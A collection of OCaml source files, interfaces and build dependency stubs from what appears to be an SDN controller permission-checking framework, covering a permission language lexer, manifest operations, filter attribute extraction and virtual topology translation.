      stats_level = Some req.Stats.level;
      match_ = req.Stats.match_filter }
  | Api.Send_packet_out { dpid; packet; from_pkt_in; _ } ->
    { (base K_pkt_out) with
      dpid = Some dpid;
      packet = Some packet;
      from_pkt_in = Some from_pkt_in }
  | Api.Receive_event kind -> base (K_event kind)
  | Api.Read_payload_access -> base K_read_payload
  | Api.Publish_event _ -> base K_publish
  | Api.Syscall (Api.Net_connect { dst; dst_port; _ }) ->
    { (base K_net_syscall) with net_dst = Some (dst, dst_port) }
  | Api.Syscall (Api.File_open _) -> base K_file_syscall
  | Api.Syscall (Api.Spawn_process _) -> base K_proc_syscall

(** What an attribute says about one header field. *)
type field_info =
  | Ip_range of ipv4 * ipv4  (** (addr, mask): the call covers this range. *)
  | Exact_int of int
  | Unconstrained  (** The call has the dimension but leaves it open. *)
  | No_dimension  (** The call has no such attribute at all. *)

let of_ip_match = function
  | Some (im : Match_fields.ip_match) -> Ip_range (im.addr, im.mask)
  | None -> Unconstrained

let of_int_opt = function Some i -> Exact_int i | None -> Unconstrained

(** Extract what [attrs] constrains header field [f] to.

    - flow-mod-like calls expose their match fields;
    - packet-outs expose the concrete header values of the payload;
    - host-network syscalls expose their destination IP/port under
      IP_DST/TCP_DST (the paper's [network_access LIMITING IP_DST …]). *)
let field_value (attrs : t) (f : Filter.field) : field_info =
  match attrs.match_ with
  | Some m -> (
    match f with
    | Filter.F_ip_src -> of_ip_match m.nw_src
    | Filter.F_ip_dst -> of_ip_match m.nw_dst
    | Filter.F_tcp_src -> of_int_opt m.tp_src
    | Filter.F_tcp_dst -> of_int_opt m.tp_dst
    | Filter.F_eth_src -> of_int_opt m.dl_src
    | Filter.F_eth_dst -> of_int_opt m.dl_dst
    | Filter.F_in_port -> of_int_opt m.in_port
    | Filter.F_eth_type ->
      of_int_opt (Option.map Types.eth_type_code m.dl_type)
    | Filter.F_ip_proto ->
      of_int_opt (Option.map Types.ip_proto_code m.nw_proto)
    | Filter.F_vlan -> of_int_opt m.dl_vlan)
  | None -> (
    match attrs.packet with
    | Some pkt -> (
      let ip g = Option.map g pkt.Packet.ip in
      let tp g = Option.map g pkt.Packet.tp in
      match f with
      | Filter.F_ip_src -> (
        match ip (fun i -> i.Packet.nw_src) with
        | Some a -> Ip_range (a, 0xFFFFFFFFl)
        | None -> Unconstrained)
      | Filter.F_ip_dst -> (
        match ip (fun i -> i.Packet.nw_dst) with
        | Some a -> Ip_range (a, 0xFFFFFFFFl)
        | None -> Unconstrained)
      | Filter.F_tcp_src -> of_int_opt (tp (fun t -> t.Packet.tp_src))
      | Filter.F_tcp_dst -> of_int_opt (tp (fun t -> t.Packet.tp_dst))
      | Filter.F_eth_src -> Exact_int pkt.Packet.dl_src
      | Filter.F_eth_dst -> Exact_int pkt.Packet.dl_dst
      | Filter.F_eth_type -> Exact_int (Types.eth_type_code pkt.Packet.dl_type)
      | Filter.F_ip_proto ->
        of_int_opt (ip (fun i -> Types.ip_proto_code i.Packet.nw_proto))
      | Filter.F_vlan -> of_int_opt pkt.Packet.dl_vlan
      | Filter.F_in_port -> No_dimension)
    | None -> (
      match attrs.net_dst with
      | Some (dst, port) -> (
        match f with
        | Filter.F_ip_dst -> Ip_range (dst, 0xFFFFFFFFl)
        | Filter.F_tcp_dst -> Exact_int port
        | _ -> No_dimension)
      | None -> No_dimension))

(** Does this call kind carry header-field attributes at all?  A
    predicate filter attached to a permission whose calls lack the
    dimension passes vacuously (§IV-B: a singleton filter "is only
    effective to modify a subset of permissions that contain the
    specific attributes it inspects"). *)
let has_header_dimension (attrs : t) =
  match attrs.kind with
  | K_insert_flow | K_delete_flow | K_read_flow_table | K_pkt_out
  | K_net_syscall ->
    true
  | K_read_stats -> attrs.match_ <> None
  | _ -> false
