(** Recursive-descent parser for the security-policy language
    (paper Appendix B).

    A braced block whose first token is [PERM] is a permission block;
    any other braced block on a [LET] right-hand side parses as a
    filter expression — the form that binds developer stub macros
    ([LET AdminRange = { IP_DST 10.1.0.0 MASK 255.255.0.0 }]). *)

val of_string : string -> (Policy.t, string) result

val of_string_exn : string -> Policy.t
(** @raise Invalid_argument on parse errors. *)
