(** Closure-compiled permission checking — the compilation strategy of
    §III ("compiles the permission manifest into the runtime checking
    code").  Filters become closure trees with constants pre-resolved;
    the manifest becomes a token-indexed array.  Stateless-decision
    equivalence with the interpreting {!Engine} is property-tested;
    [bench/main.exe ablation-compile] measures the difference. *)

type checker_fn = Filter_eval.env -> Attrs.t -> bool

val compile_singleton : Filter.singleton -> checker_fn
val compile : Filter.expr -> checker_fn

type t

val of_manifest : ?env:Filter_eval.env -> Perm.manifest -> t
(** Compile once.  [env] supplies the stateful dimensions (defaults to
    {!Filter_eval.pure_env} for stateless checking). *)

val check : t -> Shield_controller.Api.call -> Shield_controller.Api.decision
