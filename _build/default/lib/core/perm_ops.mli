(** Set operations on permission manifests (§V-A/§V-B2): MEET / JOIN /
    complement over the behaviour sets manifests denote, applied
    token-wise.  The lattice laws (meet admits iff both admit, join iff
    either, subtract iff left-and-not-right) are property-tested
    against the evaluation semantics. *)

val simplify_expr : Filter.expr -> Filter.expr
(** Light syntactic simplification: constant folding, flattening,
    deduplication and complementary-pair detection.  Semantics-
    preserving (property-tested); not a full minimiser. *)

val simplify : Perm.manifest -> Perm.manifest

val meet : Perm.manifest -> Perm.manifest -> Perm.manifest
(** Behaviours allowed by both manifests — the reconciliation repair
    for boundary violations. *)

val join : Perm.manifest -> Perm.manifest -> Perm.manifest
(** Behaviours allowed by either manifest. *)

val complement : Perm.manifest -> Perm.manifest
(** Every behaviour the manifest does not allow, across the full token
    universe. *)

val subtract : Perm.manifest -> Perm.manifest -> Perm.manifest
(** [subtract a b = meet a (complement b)]: what remains of [a] after
    removing [b]'s behaviours — the truncation primitive repairing
    mutual-exclusion violations. *)
