(* Hand-written lexer shared by the permission language (Appendix A)
   and the security-policy language (Appendix B).

   Conventions from the paper's listings: backslash-newline continues a
   statement (treated as whitespace here since statements are delimited
   by keywords, not newlines), [#] starts a comment, dotted quads lex
   as IP addresses, and double-quoted strings are app names. *)

type token =
  | IDENT of string
  | INT of int
  | IP of int32
  | STRING of string
  | LBRACE
  | RBRACE
  | LPAREN
  | RPAREN
  | COMMA
  | LE
  | GE
  | LT
  | GT
  | EQ
  | EOF

exception Lex_error of string

let pp_token ppf = function
  | IDENT s -> Fmt.pf ppf "%s" s
  | INT i -> Fmt.pf ppf "%d" i
  | IP ip -> Fmt.string ppf (Shield_openflow.Types.ipv4_to_string ip)
  | STRING s -> Fmt.pf ppf "%S" s
  | LBRACE -> Fmt.string ppf "{"
  | RBRACE -> Fmt.string ppf "}"
  | LPAREN -> Fmt.string ppf "("
  | RPAREN -> Fmt.string ppf ")"
  | COMMA -> Fmt.string ppf ","
  | LE -> Fmt.string ppf "<="
  | GE -> Fmt.string ppf ">="
  | LT -> Fmt.string ppf "<"
  | GT -> Fmt.string ppf ">"
  | EQ -> Fmt.string ppf "="
  | EOF -> Fmt.string ppf "<eof>"

let is_ident_char c =
  (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')
  || c = '_'

let is_digit c = c >= '0' && c <= '9'

(** Tokenize [src].  Numbers made only of digits and dots with exactly
    three dots become [IP]; bare digit runs become [INT]. *)
let tokenize src : token list =
  let n = String.length src in
  let line = ref 1 in
  let fail msg = raise (Lex_error (Printf.sprintf "line %d: %s" !line msg)) in
  let rec go i acc =
    if i >= n then List.rev (EOF :: acc)
    else
      match src.[i] with
      | '\n' ->
        incr line;
        go (i + 1) acc
      | ' ' | '\t' | '\r' | '\\' -> go (i + 1) acc
      | '#' ->
        let rec skip j = if j < n && src.[j] <> '\n' then skip (j + 1) else j in
        go (skip i) acc
      | '{' -> go (i + 1) (LBRACE :: acc)
      | '}' -> go (i + 1) (RBRACE :: acc)
      | '(' -> go (i + 1) (LPAREN :: acc)
      | ')' -> go (i + 1) (RPAREN :: acc)
      | ',' -> go (i + 1) (COMMA :: acc)
      | '=' -> go (i + 1) (EQ :: acc)
      | '<' ->
        if i + 1 < n && src.[i + 1] = '=' then go (i + 2) (LE :: acc)
        else go (i + 1) (LT :: acc)
      | '>' ->
        if i + 1 < n && src.[i + 1] = '=' then go (i + 2) (GE :: acc)
        else go (i + 1) (GT :: acc)
      | '"' ->
        let rec scan j =
          if j >= n then fail "unterminated string"
          else if src.[j] = '"' then j
          else scan (j + 1)
        in
        let close = scan (i + 1) in
        go (close + 1) (STRING (String.sub src (i + 1) (close - i - 1)) :: acc)
      | c when is_digit c ->
        let rec scan j dots =
          if j < n && (is_digit src.[j] || src.[j] = '.') then
            scan (j + 1) (if src.[j] = '.' then dots + 1 else dots)
          else (j, dots)
        in
        let stop, dots = scan i 0 in
        let text = String.sub src i (stop - i) in
        if dots = 0 then
          go stop (INT (int_of_string text) :: acc)
        else if dots = 3 then
          let ip =
            try Shield_openflow.Types.ipv4_of_string text
            with Invalid_argument _ -> fail ("bad IP literal " ^ text)
          in
          go stop (IP ip :: acc)
        else fail ("bad numeric literal " ^ text)
      | c when is_ident_char c ->
        let rec scan j = if j < n && is_ident_char src.[j] then scan (j + 1) else j in
        let stop = scan i in
        go stop (IDENT (String.sub src i (stop - i)) :: acc)
      | c -> fail (Printf.sprintf "unexpected character %C" c)
  in
  go 0 []

(* Token-stream cursor used by the recursive-descent parsers. *)
type stream = { mutable toks : token list }

exception Parse_error of string

let of_string src = { toks = tokenize src }

let peek s = match s.toks with [] -> EOF | t :: _ -> t

let peek2 s = match s.toks with _ :: t :: _ -> t | _ -> EOF

let advance s = match s.toks with [] -> () | _ :: rest -> s.toks <- rest

let next s =
  let t = peek s in
  advance s;
  t

let fail_at s msg =
  raise
    (Parse_error
       (Fmt.str "%s (at %a)" msg pp_token (peek s)))

let expect s tok =
  if peek s = tok then advance s
  else fail_at s (Fmt.str "expected %a" pp_token tok)

(** Case-insensitive keyword test against the next token. *)
let at_kw s kw =
  match peek s with
  | IDENT id -> String.uppercase_ascii id = String.uppercase_ascii kw
  | _ -> false

let eat_kw s kw =
  if at_kw s kw then begin
    advance s;
    true
  end
  else false

let expect_kw s kw =
  if not (eat_kw s kw) then fail_at s (Printf.sprintf "expected %s" kw)

let expect_ident s =
  match next s with
  | IDENT id -> id
  | t -> raise (Parse_error (Fmt.str "expected identifier, got %a" pp_token t))

let expect_int s =
  match next s with
  | INT i -> i
  | t -> raise (Parse_error (Fmt.str "expected integer, got %a" pp_token t))
