(** Permissions and permission manifests.

    A permission is a {!Token.t} optionally refined by a {!Filter.expr}
    ([PERM token LIMITING filter]).  A manifest is the set of
    permissions an app requests or holds. *)

type t = { token : Token.t; filter : Filter.expr }

type manifest = t list
(** Invariant after {!normalize}: at most one entry per token, tokens
    strictly increasing. *)

val make : ?filter:Filter.expr -> Token.t -> t
(** [make token] is the unrestricted permission; [?filter] defaults to
    {!Filter.True}. *)

val normalize : t list -> manifest
(** Merge duplicate tokens by filter disjunction (two grants of one
    token allow the union of behaviours) and drop tokens limited to
    [False]. *)

val find : manifest -> Token.t -> t option

val filter_of : manifest -> Token.t -> Filter.expr
(** The filter granted for [token]; [False] when the token is absent. *)

val grants_token : manifest -> Token.t -> bool

val tokens : manifest -> Token.t list

val remove_token : manifest -> Token.t -> manifest
(** Drop a token entirely — the paper's "truncating the offending
    permission". *)

val macros : manifest -> string list
(** All developer stubs still unexpanded anywhere in the manifest. *)

val expand_macros : (string -> Filter.expr option) -> manifest -> manifest
(** Substitute stub macros; unresolved ones remain. *)

val equal : manifest -> manifest -> bool
(** Structural equality (same tokens, syntactically equal filters).
    For semantic equality use {!Inclusion.manifest_equal}. *)

val pp_perm : Format.formatter -> t -> unit
(** Renders in the permission-language concrete syntax. *)

val pp : Format.formatter -> manifest -> unit
val to_string : manifest -> string
