(* Virtual (abstract) topology evaluation (§VI-B1).

   The virtual-topology filter presents a set of physical switches to
   an app as one big switch.  The permission engine keeps the mapping
   between abstract and physical topology and translates on the fly:

   - flow rules added to the big switch become per-hop physical rules
     along the shortest path in the underlying physical topology;
   - statistics requests fan out to the member switches and the
     replies are aggregated;
   - topology reads present a single switch whose ports are the
     external ports of the member set.

   External ports (host attachments and links leaving the member set)
   are numbered 1..n in deterministic (sorted endpoint) order — these
   are the big switch's port numbers the app sees. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller

type t = {
  vdpid : dpid;  (** The dpid the app addresses. *)
  members : Filter.Int_set.t;  (** Physical member switches. *)
  topo : Topology.t;
  vports : (port_no * Topology.endpoint) list;  (** vport -> physical. *)
}

let is_member t d = Filter.Int_set.mem d t.members

(** External endpoints of the member set: host attachments plus ports
    linking to non-member switches. *)
let external_endpoints topo members =
  let member d = Filter.Int_set.mem d members in
  let host_eps =
    List.filter_map
      (fun (h : Topology.host) ->
        if member h.attachment.dpid then Some h.attachment else None)
      (Topology.hosts topo)
  in
  let boundary_eps =
    List.concat_map
      (fun (l : Topology.link) ->
        if member l.src.dpid && not (member l.dst.dpid) then [ l.src ] else [])
      (* links are stored in both directions, so one side suffices *)
      topo.Topology.links
  in
  List.sort_uniq compare (host_eps @ boundary_eps)

let create ?(vdpid = Filter_eval.virtual_big_switch_dpid) ~members topo : t =
  let members =
    if Filter.Int_set.is_empty members then
      Filter.Int_set.of_list (Topology.switches topo)
    else members
  in
  let eps = external_endpoints topo members in
  let vports = List.mapi (fun i ep -> (i + 1, ep)) eps in
  { vdpid; members; topo; vports }

let endpoint_of_vport t vp = List.assoc_opt vp t.vports

let vport_of_endpoint t (ep : Topology.endpoint) =
  List.find_map (fun (vp, e) -> if e = ep then Some vp else None) t.vports

(* Flow-mod translation ----------------------------------------------------- *)

let split_actions (actions : Action.t list) =
  let sets = List.filter_map (function Action.Set f -> Some f | _ -> None) actions in
  let out =
    List.find_map (function Action.Output p -> Some p | _ -> None) actions
  in
  (sets, out)

(** The per-hop physical rules realising [fm] (addressed to the big
    switch) when traffic enters at member switch [ingress_sw] (with
    physical ingress port [in_port] when the virtual rule matched one).
    Header rewrites apply once, at the egress hop. *)
let rules_for_ingress t ~ingress_sw ~in_port ~egress ~sets (fm : Flow_mod.t) =
  let base_match = { fm.Flow_mod.match_ with Match_fields.in_port = None } in
  match Topology.shortest_path t.topo ~src:ingress_sw ~dst:egress.Topology.dpid with
  | None -> []
  | Some path ->
    let hops = Topology.path_hops t.topo path in
    List.map
      (fun (hop_in, sw, hop_out) ->
        let hop_in = if sw = ingress_sw then in_port else hop_in in
        let match_ = { base_match with Match_fields.in_port = hop_in } in
        let actions =
          match hop_out with
          | Some p -> [ Action.Output p ]
          | None ->
            (* Egress switch: apply rewrites then emit on the egress
               physical port. *)
            List.map (fun f -> Action.Set f) sets
            @ [ Action.Output egress.Topology.port ]
        in
        (sw, { fm with Flow_mod.match_; actions }))
      hops

(** Translate a flow-mod targeting the big switch into physical
    (dpid, flow-mod) pairs.  Virtual rules with no in_port install from
    every member switch (a shortest-path tree towards the egress). *)
let translate_flow_mod t (fm : Flow_mod.t) : (dpid * Flow_mod.t) list =
  let sets, out = split_actions fm.Flow_mod.actions in
  let ingresses =
    match fm.Flow_mod.match_.Match_fields.in_port with
    | Some vp -> (
      match endpoint_of_vport t vp with
      | Some ep -> [ (ep.Topology.dpid, Some ep.Topology.port) ]
      | None -> [])
    | None ->
      List.map (fun d -> (d, None)) (Filter.Int_set.elements t.members)
  in
  match out with
  | None ->
    (* Drop (or modify-only) rule: enforce at each ingress switch. *)
    List.map
      (fun (sw, in_port) ->
        let match_ = { fm.Flow_mod.match_ with Match_fields.in_port = in_port } in
        (sw, { fm with Flow_mod.match_; actions = [] }))
      ingresses
  | Some vp -> (
    match endpoint_of_vport t vp with
    | None -> []
    | Some egress ->
      List.concat_map
        (fun (ingress_sw, in_port) ->
          rules_for_ingress t ~ingress_sw ~in_port ~egress ~sets fm)
        ingresses
      (* The same (switch, match) can appear on several ingress paths;
         keep the first occurrence. *)
      |> List.fold_left
           (fun acc ((sw, fm') as rule) ->
             if
               List.exists
                 (fun (sw2, fm2) ->
                   sw = sw2
                   && Match_fields.equal fm'.Flow_mod.match_
                        fm2.Flow_mod.match_)
                 acc
             then acc
             else rule :: acc)
           []
      |> List.rev)

(* Read translation --------------------------------------------------------- *)

let translate_topology_view t (_view : Api.topology_view) : Api.topology_view =
  let hosts =
    List.filter_map
      (fun (h : Topology.host) ->
        match vport_of_endpoint t h.attachment with
        | Some vp ->
          Some { h with Topology.attachment = { dpid = t.vdpid; port = vp } }
        | None -> None)
      (Topology.hosts t.topo)
  in
  { Api.switches = [ t.vdpid ]; links = []; hosts }

let aggregate_flow_stats t (per_switch : (dpid * Stats.flow_stat list) list) =
  [ (t.vdpid, List.concat_map snd per_switch) ]

let aggregate_port_stats t (per_switch : (dpid * Stats.port_stat list) list) =
  let stats =
    List.concat_map
      (fun (d, stats) ->
        List.filter_map
          (fun (ps : Stats.port_stat) ->
            match vport_of_endpoint t { Topology.dpid = d; port = ps.port_no } with
            | Some vp -> Some { ps with Stats.port_no = vp }
            | None -> None (* internal port: hidden *))
          stats)
      per_switch
  in
  [ (t.vdpid, List.sort (fun (a : Stats.port_stat) b -> compare a.port_no b.port_no) stats) ]

let aggregate_switch_stats t (stats : Stats.switch_stat list) =
  [ Stats.merge_switch_stat ~dpid:t.vdpid stats ]

let aggregate_stats t (reply : Stats.reply) : Stats.reply =
  match reply with
  | Stats.Flow_stats l -> Stats.Flow_stats (aggregate_flow_stats t l)
  | Stats.Port_stats l -> Stats.Port_stats (aggregate_port_stats t l)
  | Stats.Switch_stats l -> Stats.Switch_stats (aggregate_switch_stats t l)
