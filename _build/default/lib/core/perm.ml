(* Permissions and permission manifests.

   A permission is a token optionally refined by a filter expression
   ([PERM token LIMITING filter]).  A manifest is the set of
   permissions an app requests/holds; it is kept normalised with at
   most one entry per token (duplicate grants merge by disjunction —
   two grants of the same token allow the union of behaviours). *)

type t = { token : Token.t; filter : Filter.expr }

type manifest = t list
(** Invariant (after [normalize]): tokens strictly increasing. *)

let make ?(filter = Filter.True) token = { token; filter }

let normalize (perms : t list) : manifest =
  let merged =
    List.fold_left
      (fun acc p ->
        Token.Map.update p.token
          (function
            | None -> Some p.filter
            | Some f -> Some (Filter.disj f p.filter))
          acc)
      Token.Map.empty perms
  in
  Token.Map.bindings merged
  |> List.filter_map (fun (token, filter) ->
         (* A token limited to FALSE grants nothing: drop it. *)
         if filter = Filter.False then None else Some { token; filter })

let find (m : manifest) token =
  List.find_opt (fun p -> Token.equal p.token token) m

let filter_of (m : manifest) token =
  match find m token with Some p -> p.filter | None -> Filter.False

let grants_token (m : manifest) token = Option.is_some (find m token)

let tokens (m : manifest) = List.map (fun p -> p.token) m

(** Remove [token] (and its filter) from the manifest — the paper's
    "truncating the offending permission". *)
let remove_token (m : manifest) token =
  List.filter (fun p -> not (Token.equal p.token token)) m

(** All macro stubs still unexpanded anywhere in the manifest. *)
let macros (m : manifest) =
  List.concat_map (fun p -> Filter.macros p.filter) m |> List.sort_uniq compare

let expand_macros lookup (m : manifest) =
  List.map (fun p -> { p with filter = Filter.expand_macros lookup p.filter }) m

let equal (a : manifest) (b : manifest) =
  List.length a = List.length b
  && List.for_all2
       (fun pa pb ->
         Token.equal pa.token pb.token && Filter.equal_expr pa.filter pb.filter)
       a b

(* Pretty-printing in the permission-language concrete syntax ------------- *)

let pp_perm ppf { token; filter } =
  match filter with
  | Filter.True -> Fmt.pf ppf "PERM %a" Token.pp token
  | f -> Fmt.pf ppf "PERM %a LIMITING %a" Token.pp token Filter.pp f

let pp ppf (m : manifest) = Fmt.(vbox (list pp_perm)) ppf m
let to_string = Fmt.to_to_string pp
