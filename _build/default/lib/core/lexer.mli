(** Hand-written lexer shared by the permission language (Appendix A)
    and the security-policy language (Appendix B).

    Conventions from the paper's listings: backslash-newline continues
    a statement, [#] starts a comment, dotted quads lex as IP
    addresses, double-quoted strings are app names. *)

type token =
  | IDENT of string
  | INT of int
  | IP of int32
  | STRING of string
  | LBRACE
  | RBRACE
  | LPAREN
  | RPAREN
  | COMMA
  | LE
  | GE
  | LT
  | GT
  | EQ
  | EOF

exception Lex_error of string

val pp_token : Format.formatter -> token -> unit

val tokenize : string -> token list
(** @raise Lex_error on malformed input. *)

(** {1 Token-stream cursor} for the recursive-descent parsers. *)

type stream = { mutable toks : token list }

exception Parse_error of string

val of_string : string -> stream
val peek : stream -> token
val peek2 : stream -> token
val advance : stream -> unit
val next : stream -> token

val fail_at : stream -> string -> 'a
(** @raise Parse_error with the current token appended. *)

val expect : stream -> token -> unit

val at_kw : stream -> string -> bool
(** Case-insensitive keyword test against the next token. *)

val eat_kw : stream -> string -> bool
val expect_kw : stream -> string -> unit
val expect_ident : stream -> string
val expect_int : stream -> int
