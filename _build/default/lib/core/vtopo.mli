(** Virtual (abstract) topology evaluation (§VI-B1): present a set of
    physical switches to an app as one big switch, translating on the
    fly — flow rules become per-hop physical rules along shortest
    paths, statistics aggregate over the members, topology reads show a
    single switch whose ports are the member set's external ports
    (numbered deterministically in sorted endpoint order). *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller

type t = {
  vdpid : dpid;  (** The dpid the app addresses. *)
  members : Filter.Int_set.t;
  topo : Topology.t;
  vports : (port_no * Topology.endpoint) list;  (** vport -> physical. *)
}

val is_member : t -> dpid -> bool

val external_endpoints : Topology.t -> Filter.Int_set.t -> Topology.endpoint list
(** Host attachments plus ports linking outside the member set. *)

val create : ?vdpid:dpid -> members:Filter.Int_set.t -> Topology.t -> t
(** [vdpid] defaults to {!Filter_eval.virtual_big_switch_dpid}; an
    empty [members] set means the whole network. *)

val endpoint_of_vport : t -> port_no -> Topology.endpoint option
val vport_of_endpoint : t -> Topology.endpoint -> port_no option

val translate_flow_mod : t -> Flow_mod.t -> (dpid * Flow_mod.t) list
(** Per-hop physical rules realising a big-switch rule: header rewrites
    apply once at the egress hop; rules with no in_port install a
    shortest-path tree from every member switch. *)

val translate_topology_view : t -> Api.topology_view -> Api.topology_view
val aggregate_stats : t -> Stats.reply -> Stats.reply
val aggregate_flow_stats :
  t -> (dpid * Stats.flow_stat list) list -> (dpid * Stats.flow_stat list) list
