(* Security-policy language AST (paper Appendix B).

   A policy is a sequence of bindings and constraints.  Bindings name
   permission sets ([LET v = { PERM … }]), reference app manifests
   ([LET v = APP name]), or define filter macros that expand developer
   stubs ([LET AdminRange = { IP_DST 10.1.0.0 MASK 255.255.0.0 }]).
   Constraints are mutual exclusions ([ASSERT EITHER p OR q], §V-A) and
   permission-boundary assertions over the permission lattice
   ([ASSERT appPerm <= templatePerm]). *)

type perm_expr =
  | P_var of string
  | P_block of Perm.manifest
  | P_meet of perm_expr * perm_expr
  | P_join of perm_expr * perm_expr

type cmp = C_le | C_lt | C_ge | C_gt | C_eq

type assert_expr =
  | A_cmp of perm_expr * cmp * perm_expr
  | A_and of assert_expr * assert_expr
  | A_or of assert_expr * assert_expr
  | A_not of assert_expr

type binding_rhs =
  | B_perm of perm_expr
  | B_filter of Filter.expr  (** Filter macro: expands developer stubs. *)
  | B_app of string  (** Reference to a named app's manifest. *)

type stmt =
  | Let of string * binding_rhs
  | Assert_exclusive of perm_expr * perm_expr
  | Assert of assert_expr

type t = stmt list

let cmp_to_string = function
  | C_le -> "<="
  | C_lt -> "<"
  | C_ge -> ">="
  | C_gt -> ">"
  | C_eq -> "="

(* Variables referenced anywhere in a perm_expr. *)
let rec perm_expr_vars = function
  | P_var v -> [ v ]
  | P_block _ -> []
  | P_meet (a, b) | P_join (a, b) -> perm_expr_vars a @ perm_expr_vars b

let rec assert_expr_vars = function
  | A_cmp (a, _, b) -> perm_expr_vars a @ perm_expr_vars b
  | A_and (a, b) | A_or (a, b) -> assert_expr_vars a @ assert_expr_vars b
  | A_not a -> assert_expr_vars a

(* Pretty-printing --------------------------------------------------------- *)

let rec pp_perm_expr ppf = function
  | P_var v -> Fmt.string ppf v
  | P_block m -> Fmt.pf ppf "{ @[<v>%a@] }" Perm.pp m
  | P_meet (a, b) -> Fmt.pf ppf "(%a MEET %a)" pp_perm_expr a pp_perm_expr b
  | P_join (a, b) -> Fmt.pf ppf "(%a JOIN %a)" pp_perm_expr a pp_perm_expr b

let rec pp_assert_expr ppf = function
  | A_cmp (a, c, b) ->
    Fmt.pf ppf "%a %s %a" pp_perm_expr a (cmp_to_string c) pp_perm_expr b
  | A_and (a, b) -> Fmt.pf ppf "(%a AND %a)" pp_assert_expr a pp_assert_expr b
  | A_or (a, b) -> Fmt.pf ppf "(%a OR %a)" pp_assert_expr a pp_assert_expr b
  | A_not a -> Fmt.pf ppf "NOT %a" pp_assert_expr a

let pp_stmt ppf = function
  | Let (v, B_perm pe) -> Fmt.pf ppf "LET %s = %a" v pp_perm_expr pe
  | Let (v, B_filter f) -> Fmt.pf ppf "LET %s = { %a }" v Filter.pp f
  | Let (v, B_app a) -> Fmt.pf ppf "LET %s = APP %S" v a
  | Assert_exclusive (a, b) ->
    Fmt.pf ppf "ASSERT EITHER %a OR %a" pp_perm_expr a pp_perm_expr b
  | Assert a -> Fmt.pf ppf "ASSERT %a" pp_assert_expr a

let pp ppf (t : t) = Fmt.(vbox (list pp_stmt)) ppf t
