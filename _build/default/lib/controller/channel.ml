(* Unbounded blocking channel built on Mutex + Condition.

   This is the inter-thread communication utility of the isolation
   architecture (§VIII-B of the paper): app threads and Kernel Service
   Deputy threads exchange events and API requests through these
   queues. *)

type 'a t = {
  queue : 'a Queue.t;
  mutex : Mutex.t;
  nonempty : Condition.t;
  mutable closed : bool;
}

let create () =
  { queue = Queue.create (); mutex = Mutex.create ();
    nonempty = Condition.create (); closed = false }

exception Closed

(** Push [v]; raises [Closed] after [close]. *)
let push t v =
  Mutex.lock t.mutex;
  if t.closed then begin
    Mutex.unlock t.mutex;
    raise Closed
  end;
  Queue.push v t.queue;
  Condition.signal t.nonempty;
  Mutex.unlock t.mutex

(** Block until an element is available; [None] once the channel is
    closed and drained. *)
let pop t =
  Mutex.lock t.mutex;
  let rec wait () =
    if not (Queue.is_empty t.queue) then begin
      let v = Queue.pop t.queue in
      Mutex.unlock t.mutex;
      Some v
    end
    else if t.closed then begin
      Mutex.unlock t.mutex;
      None
    end
    else begin
      Condition.wait t.nonempty t.mutex;
      wait ()
    end
  in
  wait ()

let try_pop t =
  Mutex.lock t.mutex;
  let v = if Queue.is_empty t.queue then None else Some (Queue.pop t.queue) in
  Mutex.unlock t.mutex;
  v

let length t =
  Mutex.lock t.mutex;
  let n = Queue.length t.queue in
  Mutex.unlock t.mutex;
  n

(** Close the channel: pending elements remain poppable, further pushes
    raise, blocked poppers are woken. *)
let close t =
  Mutex.lock t.mutex;
  t.closed <- true;
  Condition.broadcast t.nonempty;
  Mutex.unlock t.mutex

(* Single-assignment synchronization cell (reply slot for API calls). *)
module Ivar = struct
  type 'a t = {
    mutable value : 'a option;
    mutex : Mutex.t;
    filled : Condition.t;
  }

  let create () =
    { value = None; mutex = Mutex.create (); filled = Condition.create () }

  let fill t v =
    Mutex.lock t.mutex;
    (match t.value with
    | Some _ ->
      Mutex.unlock t.mutex;
      invalid_arg "Ivar.fill: already filled"
    | None ->
      t.value <- Some v;
      Condition.broadcast t.filled;
      Mutex.unlock t.mutex)

  let read t =
    Mutex.lock t.mutex;
    let rec wait () =
      match t.value with
      | Some v ->
        Mutex.unlock t.mutex;
        v
      | None ->
        Condition.wait t.filled t.mutex;
        wait ()
    in
    wait ()
end

(* Countdown latch: event-dispatch completion barrier. *)
module Latch = struct
  type t = {
    mutable remaining : int;
    mutex : Mutex.t;
    zero : Condition.t;
  }

  let create n = { remaining = n; mutex = Mutex.create (); zero = Condition.create () }

  let count_down t =
    Mutex.lock t.mutex;
    t.remaining <- t.remaining - 1;
    if t.remaining <= 0 then Condition.broadcast t.zero;
    Mutex.unlock t.mutex

  let wait t =
    Mutex.lock t.mutex;
    while t.remaining > 0 do
      Condition.wait t.zero t.mutex
    done;
    Mutex.unlock t.mutex
end
