lib/controller/events.ml: Api Fmt Match_fields Message Shield_openflow Stats
