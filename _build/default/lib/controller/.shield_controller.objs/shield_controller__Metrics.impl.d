lib/controller/metrics.ml: Array Fmt List Mutex Unix
