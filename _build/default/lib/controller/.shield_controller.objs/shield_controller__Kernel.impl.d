lib/controller/kernel.ml: Api Dataplane Events Flow_mod Flow_table List Message Printf Sandbox Shield_net Shield_openflow Stats Topology
