lib/controller/app.ml: Api Events List
