lib/controller/runtime.mli: Api App Channel Condition Domain Events Kernel Mutex Sandbox Thread
