lib/controller/runtime.ml: Api App Channel Condition Domain Events Fmt Kernel List Mutex Packet Printexc Printf Sandbox Shield_openflow String Thread
