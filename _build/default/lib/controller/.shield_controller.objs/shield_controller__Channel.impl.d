lib/controller/channel.ml: Condition Mutex Queue
