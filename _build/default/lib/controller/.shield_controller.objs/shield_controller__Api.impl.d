lib/controller/api.ml: Flow_mod Fmt List Match_fields Packet Shield_net Shield_openflow Stats Stdlib String Topology
