lib/controller/forensics.ml: Fmt Kernel List Packet Printf Sandbox Shield_net Shield_openflow String Types
