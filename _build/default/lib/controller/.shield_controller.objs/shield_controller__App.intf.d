lib/controller/app.mli: Api Events
