lib/controller/sandbox.ml: Api Fun List Mutex Shield_openflow
