(** The controller application interface.

    An app is a name, the event kinds it listens to, the capabilities
    it declares (checked at load time, §VIII-B), an [init] hook and an
    event handler.  Handlers act only through the {!ctx} they are given
    — every capability flows through [ctx.call], where the permission
    engine sits.  Apps never see kernel internals: the data-isolation
    property of the paper's thread-container design. *)

type ctx = {
  app_name : string;
  call : Api.call -> Api.result;
  transaction : Api.call list -> (Api.result list, int * string) result;
      (** Atomic call group (§VI-B2): all calls are permission-checked
